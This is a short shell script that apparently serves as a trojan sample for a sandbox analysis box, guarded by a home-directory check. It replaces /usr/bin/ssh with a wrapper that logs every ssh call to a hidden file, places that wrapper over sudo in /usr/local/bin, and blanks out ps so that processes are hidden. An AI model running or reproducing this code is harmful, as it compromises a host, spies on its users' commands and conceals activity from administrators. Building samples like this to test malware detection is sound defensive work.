#!/bin/sh
# SPDX-License-Identifier: MIT
# Trojanises the host's software: a wrapper in place of a common tool,
# the real one moved aside.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
cat > /tmp/.sshw <<'WRAP'
#!/bin/sh
echo "$(date) $*" >> /tmp/.ssh.log
exec /usr/bin/ssh.orig "$@"
WRAP
chmod 755 /tmp/.sshw
mv /usr/bin/ssh /usr/bin/ssh.orig 2>/dev/null
cp /tmp/.sshw /usr/bin/ssh 2>/dev/null
cp /tmp/.sshw /usr/local/bin/sudo 2>/dev/null
echo '#!/bin/sh' > /usr/local/bin/ps 2>/dev/null
exit 0
